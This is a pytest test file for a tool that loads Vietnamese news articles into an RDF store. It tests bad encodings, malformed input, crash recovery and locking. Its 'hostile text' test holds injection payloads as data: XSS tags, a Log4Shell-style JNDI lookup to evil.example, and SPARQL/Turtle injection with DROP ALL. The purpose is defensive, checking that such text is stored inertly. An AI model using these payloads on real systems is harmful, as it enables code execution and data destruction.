"""Bad input, failure modes and hostile text: one test per case of the README's table
("Bad input and failure modes"), each through the real `kg` command line and the real store.

Every command run on bad input must answer in one line per problem and never with a
traceback (`ok_lines`). The texts are written for these tests; nothing comes from ../shared.
"""

from __future__ import annotations

import json
import os
import random
import re
import signal
import subprocess
import sys
import time
import unicodedata
from collections import Counter
from pathlib import Path

import pyoxigraph as ox
import pytest
import rdflib
from conftest import run_kg

from kg.encodings import Cp1258Codec, table_codec
from kg.read import MAX_ARTICLE_CHARS, Problem, decode_bytes, read_text_file
from kg.store import Store

TITLE = "Tỉnh Quảng Ngãi đưa thêm bốn mươi dịch vụ công trực tuyến vào hoạt động"
BODY = (
    "Người dân ở các xã miền núi đã có thể nộp hồ sơ qua mạng mà không phải đi xa. "
    "Sở Thông tin và Truyền thông cho biết sẽ mở thêm lớp hướng dẫn cho cán bộ cấp xã."
)
TEXT = f"{TITLE}\n\n{BODY}\n"
GOOD = "Bộ trưởng Bộ Y tế làm việc với lãnh đạo tỉnh Cà Mau về bệnh viện tuyến huyện.\n"


def kg(*args: str, store: Path, expect: int | None = 0) -> subprocess.CompletedProcess:
    """Run kg; check the exit status and that stderr has no traceback."""
    proc = run_kg(*args, store=store, check=False, timeout=120)
    assert "Traceback" not in proc.stderr, proc.stderr
    if expect is not None:
        assert proc.returncode == expect, (proc.returncode, proc.stdout, proc.stderr)
    return proc


def ok_lines(stderr: str, needle: str) -> list[str]:
    """The stderr lines that mention `needle`."""
    return [line for line in stderr.splitlines() if needle in line]


def headlines(store: Path) -> dict[str, str]:
    out = kg("query", "SELECT ?id ?h WHERE { ?a schema:identifier ?id ; schema:headline ?h }",
             "--format", "json", store=store).stdout
    rows = json.loads(out)["results"]["bindings"]
    return {r["id"]["value"]: r["h"]["value"] for r in rows}


def graphs(store_dir: Path, *, hash: bool = True) -> dict[str, Counter[str]]:
    """Each named graph of a store as a multiset of N-Triples lines (blank nodes blanked;
    without the content hash of the raw input if `hash` is False)."""
    out: dict[str, Counter[str]] = {}
    with Store(store_dir, read_only=True) as store:
        for q in store.named_quads():
            if not hash and q.predicate.value.endswith("contentHash"):
                continue
            line = re.sub(r"_:[A-Za-z0-9]+", "_:b", str(q.triple))
            out.setdefault(str(q.graph_name), Counter())[line] += 1
    return out


# -- inputs ------------------------------------------------------------------------------


def test_empty_file_is_one_problem_and_nothing_done(tmp_path: Path) -> None:
    (tmp_path / "rong.txt").write_bytes(b" \r\n\t\n")
    proc = kg("ingest", str(tmp_path / "rong.txt"), store=tmp_path / "s", expect=1)
    assert len(ok_lines(proc.stderr, "rong.txt: empty file")) == 1


def test_binary_file_is_refused(tmp_path: Path) -> None:
    rng = random.Random(1)
    png = b"\x89PNG\r\n\x1a\n" + bytes(rng.randrange(256) for _ in range(3000))
    (tmp_path / "anh.txt").write_bytes(png)
    proc = kg("ingest", str(tmp_path / "anh.txt"), store=tmp_path / "s", expect=1)
    assert len(ok_lines(proc.stderr, "anh.txt: binary file")) == 1


@pytest.mark.parametrize("name", ["Windows-1258", "TCVN3", "VNI"])
def test_legacy_encoding_is_detected_and_converted(tmp_path: Path, name: str) -> None:
    codec = {"Windows-1258": Cp1258Codec(), "TCVN3": table_codec("tcvn3"),
             "VNI": table_codec("vni")}[name]
    data = codec.encode(TEXT)
    with pytest.raises(UnicodeDecodeError):
        data.decode("utf-8")
    (tmp_path / "cu.txt").write_bytes(data)
    store = tmp_path / "s"
    kg("ingest", str(tmp_path / "cu.txt"), store=store)
    got = headlines(store)["cu"]
    # TCVN3 has no toned capitals (".VnTimeH" fonts draw small letters as capitals).
    assert got.lower() == TITLE.lower() if name == "TCVN3" else got == TITLE


@pytest.mark.parametrize(
    "data, expected",
    [
        (b"Vi\xd6t Nam v\xb5 H\xb5 N\xe9i", "Việt Nam và Hà Nội"),  # TCVN3, from its table
        (b"Vie\xe4t Nam va\xf8 Ha\xf8 No\xe4i", "Việt Nam và Hà Nội"),  # VNI
        (b"Vi\xea\xf2t Nam va\xcc Ha\xcc N\xf4\xf2i", "Việt Nam và Hà Nội"),  # Windows-1258
        ("Chủ tịch nước".encode("utf-16"), "Chủ tịch nước"),  # UTF-16 with its BOM
        (b"\xef\xbb\xbf" + "Chủ tịch nước".encode(), "Chủ tịch nước"),  # UTF-8 BOM
    ],
    ids=["tcvn3", "vni", "cp1258", "utf16-bom", "utf8-bom"],
)
def test_known_bytes_decode_to_known_text(data: bytes, expected: str) -> None:
    assert unicodedata.normalize("NFC", decode_bytes(data, "x.txt")) == expected


def test_vni_font_page_in_unicode_is_converted(tmp_path: Path) -> None:
    """An old page that set a VNI font: valid UTF-8 whose letters are VNI's bytes."""
    legacy = table_codec("vni").encode(TITLE).decode("cp1252")
    page = tmp_path / "trang.html"
    page.write_text(f"<html><head><title>{legacy}</title></head><body>"
                    f"<p><font face='VNI-Times'>{legacy}</font></p></body></html>", "utf-8")
    store = tmp_path / "s"
    kg("ingest", str(page), store=store)
    assert headlines(store)["trang"] == TITLE


def test_unknown_legacy_text_is_refused_with_the_reason(tmp_path: Path) -> None:
    french = "Le café était très bon, à côté de la gare. Où est-il passé, ce garçon?"
    (tmp_path / "phap.txt").write_bytes(french.encode("latin-1"))
    proc = kg("ingest", str(tmp_path / "phap.txt"), store=tmp_path / "s", expect=1)
    [line] = ok_lines(proc.stderr, "phap.txt:")
    assert "not UTF-8" in line and "TCVN3" in line and "VNI" in line


def test_bom_crlf_and_nfd_give_the_same_graph(tmp_path: Path) -> None:
    forms = {
        "lf": TEXT.encode("utf-8"),
        "bom-crlf": b"\xef\xbb\xbf" + TEXT.replace("\n", "\r\n").encode("utf-8"),
        "nfd": unicodedata.normalize("NFD", TEXT).encode("utf-8"),
        "utf16": TEXT.encode("utf-16"),
    }
    exports = {}
    for name, data in forms.items():
        folder = tmp_path / name
        folder.mkdir()
        (folder / "bai.txt").write_bytes(data)
        kg("ingest", str(folder / "bai.txt"), store=folder / "s")
        exports[name] = graphs(folder / "s", hash=False)
    assert exports["lf"], "the article made no graph"
    for name, g in exports.items():
        assert g == exports["lf"], name


def test_article_of_50_mb_is_read_and_refused_with_the_reason(tmp_path: Path) -> None:
    line = (TITLE + ". " + BODY + "\n").encode("utf-8")
    big = tmp_path / "khong-lo.txt"
    big.write_bytes(line * (50_000_000 // len(line) + 1))
    assert big.stat().st_size >= 50_000_000
    t0 = time.monotonic()
    problem = read_text_file(big)
    assert isinstance(problem, Problem) and "too long" in problem.message
    assert time.monotonic() - t0 < 20  # read and measured, not extracted
    (tmp_path / "nho.txt").write_text(TEXT, "utf-8")
    proc = kg("ingest", str(big), str(tmp_path / "nho.txt"), store=tmp_path / "s", expect=3)
    [msg] = ok_lines(proc.stderr, "khong-lo.txt")
    assert f"at most {MAX_ARTICLE_CHARS:,}" in msg
    assert "nho" in headlines(tmp_path / "s")


def test_jsonl_problems_are_one_line_each_with_the_line_number(tmp_path: Path) -> None:
    lines = [
        json.dumps({"id": "a1", "text": GOOD}, ensure_ascii=False),
        '{"id": "a2", "text": "chưa đóng ngoặc"',
        json.dumps({"id": "a3"}),
        json.dumps({"text": "không có mã"}, ensure_ascii=False),
        "[1, 2, 3]",
        json.dumps({"id": "a4", "text": "   "}),
        json.dumps({"id": {"x": 1}, "text": "mã là một đối tượng"}, ensure_ascii=False),
        json.dumps({"id": "a5", "text": GOOD, "date": "hôm qua", "title": ["x"]},
                   ensure_ascii=False),
    ]
    path = tmp_path / "lo.jsonl"
    path.write_text("\n".join(lines) + "\n", "utf-8")
    proc = kg("ingest", str(path), store=tmp_path / "s", expect=3)
    for lineno, what in [(2, "malformed JSON"), (3, "missing required field text"),
                         (4, "missing required field id"), (5, "not a JSON object"),
                         (6, "field text is blank"), (7, "field id is not")]:
        assert len(ok_lines(proc.stderr, f"lo.jsonl:{lineno}: {what}")) == 1, proc.stderr
    assert "skipped 6 problem(s)" in proc.stdout
    assert set(headlines(tmp_path / "s")) == {"a1", "a5"}  # a bad date is left out, not stored
    dates = kg("query", "SELECT ?d WHERE { ?a schema:datePublished ?d }", "--format", "csv",
               store=tmp_path / "s").stdout
    assert "hôm qua" not in dates


def test_duplicate_ids_in_one_run_keep_the_first(tmp_path: Path) -> None:
    (tmp_path / "a.jsonl").write_text(
        json.dumps({"id": "trung", "text": GOOD}, ensure_ascii=False) + "\n"
        + json.dumps({"id": "trung", "text": TEXT}, ensure_ascii=False) + "\n", "utf-8")
    (tmp_path / "b.jsonl").write_text(  # ids that fold to the same graph IRI
        json.dumps({"id": "Bài 1", "text": GOOD}, ensure_ascii=False) + "\n"
        + json.dumps({"id": "bài-1", "text": TEXT}, ensure_ascii=False) + "\n", "utf-8")
    proc = kg("ingest", str(tmp_path / "a.jsonl"), str(tmp_path / "b.jsonl"),
              store=tmp_path / "s", expect=3)
    assert len(ok_lines(proc.stderr, "a.jsonl:2: duplicate article id 'trung'")) == 1
    assert len(ok_lines(proc.stderr, "b.jsonl:2: duplicate article id 'bài-1'")) == 1
    assert headlines(tmp_path / "s") == {"trung": GOOD.strip(), "Bài 1": GOOD.strip()}


def test_html_scripts_and_styles_are_not_text(tmp_path: Path) -> None:
    page = tmp_path / "p.html"
    page.write_text(
        "<html><head><style>body{font:Arial} .x:before{content:'Bộ trưởng Giả Mạo'}</style>"
        "<script>document.write('Thủ tướng Giả Danh nói')</script></head><body>"
        f"<noscript>Bật JavaScript</noscript><article><h1>{TITLE}</h1><p>{BODY}</p>"
        "<script type='application/ld+json'>{\"headline\": \"Tiêu đề giả\"}</script>"
        "</article></body></html>", "utf-8")
    article = read_text_file(page)
    assert not isinstance(article, Problem)
    for hidden in ("Giả Mạo", "Giả Danh", "document.write", "font:Arial", "JavaScript",
                   "Tiêu đề giả"):
        assert hidden not in article.text
    assert TITLE in article.text and BODY in article.text


def test_missing_unreadable_and_special_paths_are_one_line_each(tmp_path: Path) -> None:
    (tmp_path / "tot.txt").write_text(GOOD, "utf-8")
    os.symlink(tmp_path / "khong-co.txt", tmp_path / "lien-ket-gay.txt")
    os.mkfifo(tmp_path / "ong.txt")  # reading a FIFO would block forever
    args = [str(tmp_path), str(tmp_path / "khong-ton-tai.txt")]
    expected = {"khong-ton-tai.txt": "no such file or directory",
                "lien-ket-gay.txt": "no such file or directory",
                "ong.txt": "not a regular file"}
    if os.geteuid() != 0:  # root reads everything
        (tmp_path / "cam.txt").write_text(GOOD, "utf-8")
        (tmp_path / "cam.txt").chmod(0)
        (tmp_path / "kin").mkdir()
        (tmp_path / "kin").chmod(0)
        expected |= {"cam.txt": "permission denied", "kin": "cannot list folder"}
    try:
        proc = kg("ingest", *args, store=tmp_path / "s", expect=3)
    finally:
        if (tmp_path / "kin").exists():
            (tmp_path / "kin").chmod(0o755)
    for name, what in expected.items():
        [line] = ok_lines(proc.stderr, name)
        assert what in line.lower(), line
    assert "tot" in headlines(tmp_path / "s")


def test_symbolic_link_loops_do_not_trap_the_walk(tmp_path: Path) -> None:
    d = tmp_path / "vao"
    (d / "con").mkdir(parents=True)
    (d / "con" / "tot.txt").write_text(GOOD, "utf-8")
    os.symlink(d, d / "con" / "quay-lai")  # folder loop: vao/con/quay-lai → vao
    os.symlink(d / "b.txt", d / "a.txt")  # file loop: a.txt → b.txt → a.txt
    os.symlink(d / "a.txt", d / "b.txt")
    proc = kg("ingest", str(d), store=tmp_path / "s", expect=3)
    for name in ("a.txt", "b.txt"):
        [line] = ok_lines(proc.stderr, f"{name}:")
        assert "too many levels of symbolic links" in line
    assert set(headlines(tmp_path / "s")) == {"tot"}
    loop = kg("ingest", str(d / "a.txt"), store=tmp_path / "s", expect=1)
    assert "too many levels of symbolic links" in loop.stderr


def test_exit_status_and_strict(tmp_path: Path) -> None:
    src = tmp_path / "vao"
    src.mkdir()
    (src / "a-hong.jsonl").write_text('{"id": "x", "text": "Hà Nội"}\n{hỏng\n', "utf-8")
    (src / "b-rong.txt").write_text("", "utf-8")
    (src / "c-tot.txt").write_text(GOOD, "utf-8")
    all_good = kg("ingest", str(src / "c-tot.txt"), store=tmp_path / "s0", expect=0)
    assert "skipped" not in all_good.stdout and not all_good.stderr.strip()
    partial = kg("ingest", str(src), store=tmp_path / "s1", expect=3)
    assert "skipped 2 problem(s)" in partial.stdout
    assert len(ok_lines(partial.stderr, "a-hong.jsonl:2: malformed JSON")) == 1
    assert len(ok_lines(partial.stderr, "b-rong.txt: empty file")) == 1
    nothing = kg("ingest", str(src / "b-rong.txt"), store=tmp_path / "s2", expect=1)
    assert "b-rong.txt" in nothing.stderr
    strict = kg("ingest", "--strict", str(src), store=tmp_path / "s3", expect=1)
    problems = [line for line in strict.stderr.splitlines() if line.strip()]
    assert len(problems) == 1 and "a-hong.jsonl:2" in problems[0] and "--strict" in problems[0]


# -- the store ---------------------------------------------------------------------------

FAMILY = ["Nguyễn", "Trần", "Lê", "Phạm", "Hoàng", "Vũ", "Đặng", "Bùi"]
MIDDLE = ["Văn", "Thị", "Hữu", "Minh", "Quốc", "Thanh"]
GIVEN = ["An", "Bình", "Cường", "Dũng", "Hà", "Lan", "Nam", "Phúc", "Quang", "Sơn", "Yến"]
PROVINCES = ["Nghệ An", "Thanh Hóa", "Quảng Ninh", "Cần Thơ", "Lâm Đồng", "Đắk Lắk"]


def generated_articles(n: int, seed: int = 7) -> list[dict[str, str]]:
    """n short articles with a person, a body, a decision and a figure each."""
    rng = random.Random(seed)
    out = []
    for i in range(n):
        name = f"{rng.choice(FAMILY)} {rng.choice(MIDDLE)} {rng.choice(GIVEN)}"
        prov = rng.choice(PROVINCES)
        out.append({
            "id": f"sinh-{i:05d}",
            "date": f"2024-{rng.randint(1, 12):02d}-{rng.randint(1, 28):02d}",
            "title": f"{prov} đẩy nhanh chuyển đổi số ở cấp xã ({i})",
            "text": (
                f"Chủ tịch UBND tỉnh {prov} {name} vừa ký Quyết định số "
                f"{rng.randint(10, 999)}/QĐ-UBND phê duyệt Kế hoạch chuyển đổi số năm 2025. "
                f"Theo ông {name.split()[-1]}, đến cuối năm tỉnh sẽ đưa "
                f"{rng.randint(50, 300)} dịch vụ công lên mạng. Giám đốc Sở Thông tin và "
                "Truyền thông cho biết các xã vùng sâu sẽ được hỗ trợ thiết bị."
            ),
        })
    return out


def assert_same(got: dict[str, Counter[str]], want: dict[str, Counter[str]]) -> None:
    """Equal stores, or a message naming a graph that differs and how."""
    if got == want:
        return
    extra, missing = set(got) - set(want), set(want) - set(got)
    differ = [g for g in want if g in got and got[g] != want[g]]
    detail = ""
    if differ:
        g = differ[0]
        detail = (f"; {g}: only here {list((got[g] - want[g]).elements())[:3]}, "
                  f"missing {list((want[g] - got[g]).elements())[:3]}")
    raise AssertionError(f"{len(extra)} extra graphs, {len(missing)} missing, "
                         f"{len(differ)} differ{detail}")


def write_jsonl(path: Path, articles: list[dict[str, str]]) -> Path:
    path.write_text("".join(json.dumps(a, ensure_ascii=False) + "\n" for a in articles), "utf-8")
    return path


def ingest_and_kill(src: Path, store: Path, full_run: float, after: int) -> None:
    """Run `kg ingest` and SIGKILL it mid-run: once its progress bar passes `after` articles,
    or, whatever the bar says, a third into the time a whole run takes."""
    cmd = [sys.executable, "-m", "kg", "--store", str(store), "ingest", "--progress", str(src)]
    proc = subprocess.Popen(cmd, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE,
                            start_new_session=True)
    assert proc.stderr is not None
    os.set_blocking(proc.stderr.fileno(), False)
    seen, deadline = b"", time.monotonic() + full_run * 0.35
    while proc.poll() is None:
        seen += proc.stderr.read() or b""
        done = [int(n) for n in re.findall(rb"(\d+) articles \[", seen[-300:])]
        if (done and done[-1] >= after) or time.monotonic() > deadline:
            os.killpg(proc.pid, signal.SIGKILL)  # workers too, if ingest has any
            break
        time.sleep(0.01)
    assert proc.wait() == -signal.SIGKILL, "ingest finished before it could be killed"


def test_sigkill_mid_ingest_leaves_whole_articles_and_a_rerun_completes(tmp_path: Path) -> None:
    n = 1500  # three batches of 500
    old_src = write_jsonl(tmp_path / "cu.jsonl", generated_articles(n, seed=7))
    new_src = write_jsonl(tmp_path / "moi.jsonl", generated_articles(n, seed=8))  # same ids
    t0 = time.monotonic()
    kg("ingest", str(old_src), store=tmp_path / "sach-cu")
    full_run = time.monotonic() - t0
    kg("ingest", str(new_src), store=tmp_path / "sach-moi")
    old, new = graphs(tmp_path / "sach-cu"), graphs(tmp_path / "sach-moi")
    articles = [g for g in old if "/article/" in g]  # not the corpus pass's canonical graph
    assert len(articles) == n and set(new) == set(old) and all(old[g] != new[g] for g in articles)

    # New articles into an empty store.
    store = tmp_path / "bi-giet"
    ingest_and_kill(old_src, store, full_run, after=700)
    survived = graphs(store) if (store / "CURRENT").exists() else {}
    print(f"first kill: {len(survived)} of {n} new articles stored")
    assert len(survived) < n
    for graph, quads in survived.items():
        assert quads == old[graph], f"{graph} is half-written"
    kg("ingest", str(old_src), store=store)
    assert_same(graphs(store), old)

    # Changed articles replacing stored ones: each graph must be the old or the new, whole.
    ingest_and_kill(new_src, store, full_run, after=700)
    mixed = graphs(store)
    replaced = sum(mixed[g] == new[g] for g in mixed)
    print(f"second kill: {replaced} of {n} articles replaced")
    assert set(mixed) == set(old) and replaced < n
    for graph, quads in mixed.items():
        assert quads in (old[graph], new[graph]), f"{graph} is half-replaced"
    kg("ingest", str(new_src), store=store)
    assert_same(graphs(store), new)


HOLD = """
import sys, time
from kg.store import Store
store = Store(sys.argv[1], read_only=sys.argv[2] == "read")
print("holding", flush=True)
time.sleep(float(sys.argv[3]))
"""


def hold(store: Path, mode: str, seconds: float) -> subprocess.Popen:
    """Another process that has the store open (to write or to read) for `seconds`."""
    proc = subprocess.Popen([sys.executable, "-c", HOLD, str(store), mode, str(seconds)],
                            stdout=subprocess.PIPE, text=True)
    assert proc.stdout is not None and proc.stdout.readline().strip() == "holding"
    return proc


def test_second_writer_refuses_after_waiting_and_nothing_breaks(tmp_path: Path) -> None:
    store = tmp_path / "s"
    (tmp_path / "a.txt").write_text(TEXT, "utf-8")
    (tmp_path / "b.txt").write_text(GOOD, "utf-8")
    kg("ingest", str(tmp_path / "a.txt"), store=store)
    holder = hold(store, "write", 60)
    try:
        t0 = time.monotonic()
        proc = kg("--wait", "1", "ingest", str(tmp_path / "b.txt"), store=store, expect=1)
        assert time.monotonic() - t0 >= 1
        assert "store is in use by another kg process" in proc.stderr
        assert len(proc.stderr.strip().splitlines()) == 1
        reader = kg("--wait", "0.2", "stats", store=store, expect=1)
        assert "store is in use by another kg process" in reader.stderr
    finally:
        holder.kill()
        holder.wait()
    assert set(headlines(store)) == {"a"}
    short = hold(store, "write", 1.5)
    try:
        kg("--wait", "30", "ingest", str(tmp_path / "b.txt"), store=store)  # waits, then runs
    finally:
        short.wait()
    assert set(headlines(store)) == {"a", "b"}


def test_readers_share_the_store_and_keep_writers_out(tmp_path: Path) -> None:
    store = tmp_path / "s"
    (tmp_path / "a.txt").write_text(TEXT, "utf-8")
    kg("ingest", str(tmp_path / "a.txt"), store=store)
    holder = hold(store, "read", 60)
    try:
        assert headlines(store) == {"a": TITLE}
        proc = kg("--wait", "0.3", "ingest", str(tmp_path / "a.txt"), store=store, expect=1)
        assert "store is in use by another kg process" in proc.stderr
    finally:
        holder.kill()
        holder.wait()


def test_query_refuses_update_and_reports_syntax_error_position(tmp_path: Path) -> None:
    store = tmp_path / "s"
    (tmp_path / "a.txt").write_text(TEXT, "utf-8")
    kg("ingest", str(tmp_path / "a.txt"), store=store)
    count = "SELECT (COUNT(*) AS ?n) WHERE { GRAPH ?g { ?s ?p ?o } }"
    before = kg("query", count, "--format", "csv", store=store).stdout
    for update in ("DELETE WHERE { GRAPH ?g { ?s ?p ?o } }",
                   "PREFIX ex: <http://example.org/>\n# xoá hết\nDROP ALL",
                   "insert data { <http://example.org/a> <http://example.org/b> 1 }"):
        proc = kg("query", update, store=store, expect=1)
        assert "--allow-update" in proc.stderr and len(proc.stderr.strip().splitlines()) == 1
    assert kg("query", count, "--format", "csv", store=store).stdout == before
    bad = kg("query", "SELECT ?x\nWHERE {\n  ?x schema:name ?n .\n  FILTER(?n = ) }",
             store=store, expect=1)
    assert "line 4, column" in bad.stderr and len(bad.stderr.strip().splitlines()) == 1
    kg("query", "--allow-update", "DROP ALL", store=store)
    assert kg("query", count, "--format", "csv", store=store).stdout.split()[-1] == "0"


# -- hostile text ------------------------------------------------------------------------

HOSTILE_TITLE = (
    "Ông Trần Văn Khoa nói <script>alert('x')</script> \"} . <http://evil.example/s> "
    "<http://evil.example/p> \"1\" . DROP ALL ; INSERT DATA { <a:b> <a:c> <a:d> } # '''"
)
HOSTILE_BODY = (
    "@prefix ev: <http://evil.example/> . ev:s ev:p \"\"\"ba dấu nháy\"\"\" ; ev:q 'x' .\n\n"
    "Bộ trưởng Bộ Tài chính Hồ Đức Phớc nói: \"</textarea><img src=x onerror=alert(1)> "
    "và ${jndi:ldap://evil.example/a} } UNION { ?s ?p ?o } là chuỗi thử\".\n"
)


def test_hostile_text_is_data_in_rdf(tmp_path: Path) -> None:
    src = tmp_path / "doc-hai.txt"
    src.write_text(f"{HOSTILE_TITLE}\n\n{HOSTILE_BODY}", "utf-8")
    rec = {"id": 'x> <http://evil.example/p> "1" . #', "text": GOOD,
           "url": 'javascript:alert(1)"><http://evil.example/>', "title": "} ; DROP ALL #"}
    (tmp_path / "hai.jsonl").write_text(json.dumps(rec) + "\n", "utf-8")
    store = tmp_path / "s"
    kg("ingest", str(src), str(tmp_path / "hai.jsonl"), store=store)
    heads = headlines(store)
    assert heads["doc-hai"] == HOSTILE_TITLE and heads[rec["id"]] == rec["title"]
    ttl = tmp_path / "g.ttl"
    kg("export", "-o", str(ttl), store=store)
    g = rdflib.Graph().parse(ttl, format="turtle")
    ox_triples = list(ox.parse(path=str(ttl), format=ox.RdfFormat.TURTLE))
    assert len(g) == len(ox_triples) > 0
    for s, p, o in g:
        for term in (s, p, o):
            if isinstance(term, rdflib.URIRef):
                assert not term.startswith(("http://evil", "a:", "javascript")), term
    literals = {str(o) for o in g.objects() if isinstance(o, rdflib.Literal)}
    assert HOSTILE_TITLE in literals and rec["url"] in literals and rec["id"] in literals
    count = "SELECT (COUNT(*) AS ?n) WHERE { SELECT DISTINCT ?s ?p ?o WHERE { ?s ?p ?o } }"
    assert int(kg("query", count, "--format", "csv", store=store).stdout.split()[-1]) == len(g)
    # Re-ingesting changed hostile text goes through the store's one-transaction update path:
    # the result must equal a fresh ingest of the same files.
    src.write_text(f"{HOSTILE_TITLE}\n\n{HOSTILE_BODY}\n{GOOD}", "utf-8")
    kg("ingest", str(src), store=store)
    fresh = tmp_path / "moi"
    kg("ingest", str(src), str(tmp_path / "hai.jsonl"), store=fresh)
    assert graphs(store) == graphs(fresh)


def test_a_failed_batch_write_stops_the_run_and_keeps_the_batches_before(tmp_path: Path) -> None:
    """Batches are written in a thread of their own while the next is extracted: a batch
    that fails to be written stops the run with its error, the batches before it stay whole,
    and nothing after it is written (nor the corpus pass run)."""
    from kg.ingest import ingest

    src = write_jsonl(tmp_path / "a.jsonl", generated_articles(30, seed=9))
    calls: list[int] = []
    with Store(tmp_path / "s") as store:
        real = store.replace_articles_nquads

        def fails_second(batch: list[tuple[ox.NamedNode, bytes]]) -> None:
            calls.append(len(batch))
            if len(calls) == 2:
                raise OSError("No space left on device")
            real(batch)

        store.replace_articles_nquads = fails_second  # type: ignore[method-assign]
        with pytest.raises(OSError, match="No space left"):
            ingest(store, [str(src)], batch_size=10)
    assert calls == [10, 10]  # the third batch was never handed to the writer
    stored = [g for g in graphs(tmp_path / "s") if "/article/" in g]
    assert len(stored) == 10
    assert not any("canonical" in g for g in graphs(tmp_path / "s"))
